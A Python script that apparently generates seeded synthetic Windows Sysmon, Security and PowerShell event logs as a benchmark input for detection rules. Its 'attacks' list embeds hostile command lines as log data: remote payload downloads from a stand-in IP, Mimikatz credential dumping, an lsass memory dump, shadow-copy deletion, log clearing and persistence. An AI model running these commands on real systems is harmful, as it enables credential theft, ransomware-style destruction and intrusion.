#!/usr/bin/env python3
"""Writes N flattened Windows events (Sysmon and Security) as JSON Lines, deterministically (seeded).

  Scripts/gen-events.py N OUT.jsonl

A yardstick input for the evaluation benchmark: the mix and field sets of a workstation's Sysmon
(1 process creation, 3 network, 7 image load, 10 process access, 11 file, 13 registry, 22 DNS),
Security (4624, 4625, 4634, 4672, 4688, 4698) and PowerShell (4104) logs, flattened as the Sigma field
convention says, with a small share (about 0.2%) of attacker activity so that rules match now and then.

Speed: each kind has a pool of a few thousand pre-serialised variants (each with its own random values);
per event only the time, the record ID, the host and the process GUID/ID are filled in. One million
events take seconds.
"""
import json
import random
import sys

n, out = int(sys.argv[1]), sys.argv[2]
rnd = random.Random(42)
VARIANTS = 3000
hosts = [f"WKS-{i:03d}.corp.example.com" for i in range(40)] + [f"SRV-{i:02d}.corp.example.com" for i in range(8)]
people = ["alice", "bob", "carol", "dave", "erin"]
users = [f"CORP\\{p}" for p in people] + ["CORP\\svc_backup", "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE"]
SYSMON = "Microsoft-Windows-Sysmon/Operational"
S32 = "C:\\Windows\\System32\\"

SERVICES, SVCHOST, EXPLORER, USERINIT = S32 + "services.exe", S32 + "svchost.exe", "C:\\Windows\\explorer.exe", S32 + "userinit.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
CMD, PWSH = S32 + "cmd.exe", S32 + "WindowsPowerShell\\v1.0\\powershell.exe"
# A workstation's process tree: (image, OriginalFileName, description, [arguments], weight, parent image,
# parent command line, account: "system" or "user", integrity). Parents, accounts and integrity levels
# agree with each other, as on a real host, so rules about odd parents or accounts stay quiet.
images = [
    (SVCHOST, "svchost.exe", "Host Process for Windows Services",
     ["-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p", "-k DcomLaunch -p", "-k UnistackSvcGroup"], 14,
     SERVICES, SERVICES, "system", "System"),
    (CHROME, "chrome.exe", "Google Chrome", ["--type=renderer --lang=en-US --field-trial-handle=1234",
                                             "--type=gpu-process --gpu-preferences=UAAAAAAA",
                                             "--type=utility --utility-sub-type=network.mojom.NetworkService"], 12,
     CHROME, f"\"{CHROME}\"", "user", "Medium"),
    (EDGE, "msedge.exe", "Microsoft Edge", ["--type=renderer --lang=en-US", "--type=utility --utility-sub-type=storage.mojom.StorageService"], 6,
     EDGE, f"\"{EDGE}\"", "user", "Medium"),
    (S32 + "conhost.exe", "CONHOST.EXE", "Console Window Host", ["0xffffffff -ForceV1"], 4, CMD, f"\"{CMD}\" ", "user", "Medium"),
    (S32 + "RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker", ["-Embedding"], 4, SVCHOST, SVCHOST + " -k DcomLaunch -p", "user", "Medium"),
    (S32 + "backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host",
     ["-ServerName:BackgroundTaskHost.WebAccountProvider"], 3, SVCHOST, SVCHOST + " -k DcomLaunch -p", "user", "Medium"),
    (S32 + "taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", ["", "Install $(Arg0)"], 3,
     SVCHOST, SVCHOST + " -k netsvcs -p -s Schedule", "user", "Medium"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "Microsoft Word",
     ["/n \"C:\\Users\\alice\\Documents\\report.docx\"", "/n \"C:\\Users\\bob\\Documents\\minutes.docx\""], 3,
     EXPLORER, EXPLORER, "user", "Medium"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook", [""], 2,
     EXPLORER, EXPLORER, "user", "Medium"),
    (S32 + "SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host",
     ["Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646"], 3,
     S32 + "SearchIndexer.exe", S32 + "SearchIndexer.exe /Embedding", "system", "System"),
    (S32 + "wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", ["-secured -Embedding"], 2,
     SVCHOST, SVCHOST + " -k DcomLaunch -p", "system", "System"),
    (EXPLORER, "EXPLORER.EXE", "Windows Explorer", [""], 1, USERINIT, USERINIT, "user", "Medium"),
    (CMD, "Cmd.Exe", "Windows Command Processor", ["/c dir C:\\Users", "/c echo %DATE%"], 2, EXPLORER, EXPLORER, "user", "Medium"),
    (PWSH, "PowerShell.EXE", "Windows PowerShell", ["-NoProfile", ""], 1, EXPLORER, EXPLORER, "user", "Medium"),
    (S32 + "msiexec.exe", "msiexec.exe", "Windows installer", ["/V"], 1, SERVICES, SERVICES, "system", "System"),
    (S32 + "dllhost.exe", "dllhost.exe", "COM Surrogate", ["/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"], 2,
     SVCHOST, SVCHOST + " -k DcomLaunch -p", "user", "Medium"),
    (S32 + "notepad.exe", "NOTEPAD.EXE", "Notepad", ["C:\\Users\\carol\\Desktop\\todo.txt"], 1, EXPLORER, EXPLORER, "user", "Medium"),
    ("C:\\Program Files\\7-Zip\\7zFM.exe", "7zFM.exe", "7-Zip File Manager", [""], 1, EXPLORER, EXPLORER, "user", "Medium"),
]
weighted_images = [img for img in images for _ in range(img[4])]
# Processes that talk to the network, and their destination ports.
net_images = [SVCHOST, CHROME, CHROME, CHROME, EDGE]


def guid():
    return "{%08X-%04X-%04X-%04X-%012X}" % (rnd.getrandbits(32), rnd.getrandbits(16), rnd.getrandbits(16),
                                          rnd.getrandbits(16), rnd.getrandbits(48))


def ip_public():
    return f"{rnd.randint(13, 223)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"


def ip_internal():
    return f"10.1.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"


def hashes():
    return "MD5=%032X,SHA256=%064X,IMPHASH=%032X" % (rnd.getrandbits(128), rnd.getrandbits(256), rnd.getrandbits(128))


# Per-event values are written into these placeholders (the variants are serialised with them in place).
T, R, H, G, P = "\x01T", "\x01R", "\x01H", "\x01G", "\x01P"


def base(eid, channel, provider):
    return {"EventID": eid, "Channel": channel, "Provider_Name": provider, "Computer": H,
            "TimeCreated_SystemTime": T, "EventRecordID": R, "Execution_ProcessID": rnd.randint(400, 9000)}


def sysmon(eid, image=None):
    e = base(eid, SYSMON, "Microsoft-Windows-Sysmon")
    e.update({"RuleName": "-", "UtcTime": T, "ProcessGuid": G, "ProcessId": P})
    if image is not None:
        e["Image"] = image
    return e


def proc_creation(image=None, ofn=None, args=None, parent=None, parent_cmd=None, user=None, integrity=None):
    img = rnd.choice(weighted_images)
    image = image or img[0]
    ofn = ofn or (img[1] if image == img[0] else image.rsplit("\\", 1)[-1])
    args = rnd.choice(img[3]) if args is None else args
    account = rnd.choice(users[:5]) if img[7] == "user" else "NT AUTHORITY\\SYSTEM"
    if parent is None:
        parent, parent_cmd = img[5], img[6]
    user = user or account
    integrity = integrity or img[8]
    e = sysmon(1, image)
    e.update({"FileVersion": "10.0.19041.3636 (WinBuild.160101.0800)", "Description": img[2],
              "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
              "OriginalFileName": ofn, "CommandLine": f"\"{image}\" {args}".strip(), "CurrentDirectory": S32,
              "User": user, "LogonGuid": guid(), "LogonId": hex(rnd.getrandbits(24)),
              "TerminalSessionId": 0 if user.startswith("NT ") else 1, "IntegrityLevel": integrity,
              "Hashes": hashes(), "ParentProcessGuid": guid(), "ParentProcessId": rnd.randint(400, 9000),
              "ParentImage": parent, "ParentCommandLine": parent_cmd or f"\"{parent}\"", "ParentUser": user})
    return e


def network(image=None, dest_ip=None, dest_host=None, port=None):
    e = sysmon(3, image or rnd.choice(net_images))
    ipv6 = rnd.random() < 0.05
    e.update({"User": rnd.choice(users), "Protocol": rnd.choice(["tcp", "tcp", "tcp", "udp"]), "Initiated": "true",
              "SourceIsIpv6": "true" if ipv6 else "false",
              "SourceIp": "fe80::%x:%x:%x:%x" % tuple(rnd.getrandbits(16) for _ in range(4)) if ipv6 else ip_internal(),
              "SourceHostname": rnd.choice(hosts), "SourcePort": rnd.randint(49152, 65535), "SourcePortName": "-",
              "DestinationIsIpv6": "true" if ipv6 else "false",
              "DestinationIp": dest_ip or ("2606:4700::%x" % rnd.getrandbits(16) if ipv6 else ip_public()),
              "DestinationHostname": dest_host or rnd.choice(["www.example.com", "login.microsoftonline.com",
                                                              "outlook.office365.com", "clients4.google.com", "-"]),
              "DestinationPort": port or rnd.choice([443, 443, 443, 443, 80]),
              "DestinationPortName": rnd.choice(["https", "http", "-"])})
    return e


def image_load():
    dll = rnd.choice(["ntdll.dll", "kernel32.dll", "combase.dll", "user32.dll", "advapi32.dll", "wininet.dll", "crypt32.dll"])
    e = sysmon(7, rnd.choice(weighted_images)[0])
    e.update({"ImageLoaded": S32 + dll, "FileVersion": "10.0.19041.3636", "Description": "Windows library",
              "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
              "OriginalFileName": dll, "Hashes": hashes(), "Signed": "true", "Signature": "Microsoft Windows",
              "SignatureStatus": "Valid", "User": rnd.choice(users)})
    return e


def process_access():
    e = sysmon(10)
    source = rnd.choice(weighted_images)[0]
    e.update({"SourceProcessGUID": G, "SourceProcessId": P, "SourceThreadId": rnd.randint(100, 9000), "SourceImage": source,
              "TargetProcessGUID": guid(), "TargetProcessId": rnd.randint(400, 9000),
              "TargetImage": rnd.choice([S32 + "svchost.exe", "C:\\Windows\\explorer.exe", S32 + "csrss.exe"]),
              "GrantedAccess": rnd.choice(["0x1000", "0x1400", "0x100000", "0x101000"]),
              "CallTrace": S32 + "ntdll.dll+9d4c4|" + S32 + "KERNELBASE.dll+2c13e|" + source + "+1a2b3",
              "SourceUser": rnd.choice(users), "TargetUser": rnd.choice(users)})
    return e


def file_event(image=None, target=None):
    user = rnd.choice(people)
    e = sysmon(11, image or rnd.choice(weighted_images)[0])
    e.update({"TargetFilename": target or rnd.choice([
        f"C:\\Users\\{user}\\AppData\\Local\\Temp\\tmp{rnd.getrandbits(16):04x}.tmp",
        f"C:\\Users\\{user}\\Downloads\\invoice_{rnd.randint(1, 999)}.pdf",
        f"C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{rnd.getrandbits(24):06x}",
        f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\report.docx.lnk",
        "C:\\Windows\\Prefetch\\CHROME.EXE-%08X.pf" % rnd.getrandbits(32),
        f"C:\\Windows\\SoftwareDistribution\\Download\\{rnd.getrandbits(64):016x}\\update.cab"]),
        "CreationUtcTime": T, "User": rnd.choice(users)})
    return e


def registry(image=None, target=None, details=None):
    e = sysmon(13, image or rnd.choice(weighted_images)[0])
    e.update({"EventType": "SetValue", "TargetObject": target or rnd.choice([
        "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\12",
        "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1004336348-1177238915-682003330-1104\\\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
        "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
        "HKU\\S-1-5-21-1004336348-1177238915-682003330-1105\\Software\\Microsoft\\Office\\16.0\\Word\\Reading Locations\\Document 0\\Position",
        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory"]),
        "Details": details or rnd.choice(["DWORD (0x00000001)", "Binary Data", "QWORD (0x01da1c2b-0x5e3f1a00)", "16 0"]),
        "User": rnd.choice(users)})
    return e


def dns(image=None, query=None):
    e = sysmon(22, image or rnd.choice(weighted_images[:40])[0])
    name = query or rnd.choice(["www.google.com", "login.microsoftonline.com", "outlook.office365.com",
                                "settings-win.data.microsoft.com", "wpad.corp.example.com", "fileserver.corp.example.com",
                                "clients4.google.com", "teams.microsoft.com", "ctldl.windowsupdate.com"])
    e.update({"QueryName": name, "QueryStatus": "0",
              "QueryResults": "type:  5 %s;::ffff:%s;" % (name, ip_public()), "User": rnd.choice(users)})
    return e


def security(eid=None, **extra):
    eid = eid or rnd.choice([4624, 4624, 4624, 4624, 4634, 4672, 4688, 4688, 4688, 4625])
    e = base(eid, "Security", "Microsoft-Windows-Security-Auditing")
    who = rnd.choice(people)
    if eid in (4624, 4625, 4634):
        e.update({"SubjectUserSid": "S-1-5-18", "SubjectUserName": "WKS$", "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7",
                  "TargetUserSid": "S-1-5-21-1004336348-1177238915-682003330-%d" % rnd.randint(1100, 1200),
                  "TargetUserName": who, "TargetDomainName": "CORP", "TargetLogonId": hex(rnd.getrandbits(24)),
                  "LogonType": rnd.choice([2, 3, 3, 3, 5, 7, 10, 11])})
    if eid in (4624, 4625):
        e.update({"LogonProcessName": rnd.choice(["User32", "NtLmSsp", "Kerberos", "Advapi"]),
                  "AuthenticationPackageName": rnd.choice(["Negotiate", "NTLM", "Kerberos"]),
                  "WorkstationName": rnd.choice(hosts).split(".")[0], "LogonGuid": guid(), "TransmittedServices": "-",
                  "LmPackageName": rnd.choice(["-", "NTLM V2"]), "KeyLength": 0, "ProcessId": hex(rnd.randint(400, 9000)),
                  "ProcessName": S32 + "lsass.exe", "IpAddress": ip_internal(), "IpPort": rnd.randint(0, 65535)})
    if eid == 4624:
        e.update({"ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "VirtualAccount": "%%1843",
                  "ElevatedToken": rnd.choice(["%%1842", "%%1843"])})
    if eid == 4625:
        e.update({"Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": rnd.choice(["0xc000006a", "0xc0000064"])})
    if eid == 4672:
        e.update({"SubjectUserSid": "S-1-5-18", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
                  "SubjectLogonId": "0x3e7", "PrivilegeList": "SeAssignPrimaryTokenPrivilege\n\t\t\tSeTcbPrivilege\n\t\t\tSeSecurityPrivilege"})
    if eid == 4688:
        img = rnd.choice(weighted_images)
        image, args = extra.pop("image", img[0]), extra.pop("args", rnd.choice(img[3]))
        e.update({"SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1104", "SubjectUserName": who,
                  "SubjectDomainName": "CORP", "SubjectLogonId": hex(rnd.getrandbits(24)), "NewProcessId": hex(rnd.randint(400, 60000)),
                  "NewProcessName": image, "TokenElevationType": rnd.choice(["%%1936", "%%1938"]), "ProcessId": hex(rnd.randint(400, 9000)),
                  "CommandLine": f"{image} {args}".strip(), "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
                  "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": extra.pop("parent", img[5]),
                  "MandatoryLabel": rnd.choice(["S-1-16-8192", "S-1-16-12288"])})
    if eid == 4698:
        e.update({"SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1104", "SubjectUserName": who,
                  "SubjectDomainName": "CORP", "SubjectLogonId": hex(rnd.getrandbits(24))})
    e.update(extra)
    return e


def powershell(text=None):
    e = base(4104, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell")
    e.update({"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockId": guid(), "Path": "",
              "ScriptBlockText": text or rnd.choice(["Get-ChildItem -Path C:\\Users -Recurse | Measure-Object",
                                                     "Import-Module ActiveDirectory; Get-ADUser -Filter *",
                                                     "$env:PSModulePath -split ';'", "Get-Service | Where-Object Status -eq 'Running'",
                                                     "prompt", "Set-StrictMode -Version 1; $_.PSMessageDetails"])})
    return e


PS = S32 + "WindowsPowerShell\\v1.0\\powershell.exe"
# Attacker activity, each built on the benign shapes above (a few hundred per million events).
attacks = [
    lambda: proc_creation(PS, "PowerShell.EXE", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                          parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    lambda: proc_creation(S32 + "certutil.exe", "CertUtil.exe", "-urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe"),
    lambda: proc_creation(S32 + "rundll32.exe", "RUNDLL32.EXE", "C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\out.dmp full",
                          integrity="High"),
    lambda: proc_creation(S32 + "vssadmin.exe", "VSSADMIN.EXE", "delete shadows /all /quiet", integrity="High"),
    lambda: proc_creation(S32 + "schtasks.exe", "schtasks.exe", "/create /tn Updater /tr C:\\Users\\Public\\upd.exe /sc minute /mo 5 /f"),
    lambda: proc_creation(S32 + "reg.exe", "reg.exe", "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\upd.exe /f"),
    lambda: proc_creation(S32 + "whoami.exe", "whoami.exe", "/priv", parent=S32 + "cmd.exe"),
    lambda: proc_creation(S32 + "net.exe", "net.exe", "group \"domain admins\" /domain", parent=S32 + "cmd.exe"),
    lambda: proc_creation(S32 + "wevtutil.exe", "wevtutil.exe", "cl Security", integrity="High"),
    lambda: proc_creation("C:\\Users\\Public\\m.exe", "mimikatz.exe", "\"privilege::debug\" \"sekurlsa::logonpasswords\" exit", integrity="High"),
    lambda: proc_creation(S32 + "mshta.exe", "MSHTA.EXE", "http://198.51.100.7/payload.hta"),
    lambda: network(S32 + "rundll32.exe", "198.51.100.7", "-", 4444),
    lambda: dns(PS, "x7f3a.ngrok-free.app"),
    lambda: dns(S32 + "certutil.exe", "pastebin.com"),
    lambda: file_event(S32 + "rundll32.exe", "C:\\Windows\\Temp\\lsass.dmp"),
    lambda: file_event(PS, "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.lnk"),
    lambda: registry(S32 + "reg.exe", "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd",
                     "C:\\Users\\Public\\upd.exe"),
    lambda: registry(PS, "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "DWORD (0x00000001)"),
    lambda: security(4688, image=S32 + "vssadmin.exe", args="delete shadows /all /quiet"),
    lambda: security(4698, TaskName="\\Updater", TaskContent="<Exec><Command>C:\\Users\\Public\\upd.exe</Command></Exec>"),
    lambda: powershell("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds"),
]


def pool(make, count):
    """Serialised variants of one kind, split at the per-event placeholders."""
    return [json.dumps(make(), ensure_ascii=False) for _ in range(count)]


kinds = [(proc_creation, 30), (network, 15), (file_event, 12), (registry, 10), (dns, 8), (image_load, 6),
         (process_access, 4), (security, 12), (powershell, 3)]
pools = [(pool(make, VARIANTS), w) for make, w in kinds]
attack_pool = [json.dumps(a(), ensure_ascii=False) for a in attacks]
table = [p for p, w in pools for _ in range(w)]
guids = [guid() for _ in range(4096)]


def fill(template, i):
    day, sec = 1 + (i * 30) // max(n, 1), rnd.getrandbits(16) % 86400
    stamp = "2026-11-%02d %02d:%02d:%02d.%03d" % (day, sec // 3600, sec // 60 % 60, sec % 60, i % 1000)
    return (template.replace(T, stamp).replace(R, str(1000000 + i)).replace(H, hosts[i % len(hosts)])
            .replace(G, guids[rnd.getrandbits(12)]).replace(P, str(1000 + rnd.getrandbits(15))))


# Placeholders came out of json.dumps as quoted escapes; record and process IDs are numbers, so their
# quotes go too.
T, H, G = (json.dumps(x)[1:-1] for x in (T, H, G))
R, P = (json.dumps(x) for x in (R, P))
with open(out, "w", encoding="utf-8") as f:
    lines = []
    for i in range(n):
        if rnd.random() < 0.002:
            template = rnd.choice(attack_pool)
        else:
            variants = rnd.choice(table)
            template = variants[rnd.getrandbits(16) % VARIANTS]
        lines.append(fill(template, i))
        if len(lines) == 10000:
            f.write("\n".join(lines) + "\n")
            lines = []
    if lines:
        f.write("\n".join(lines) + "\n")
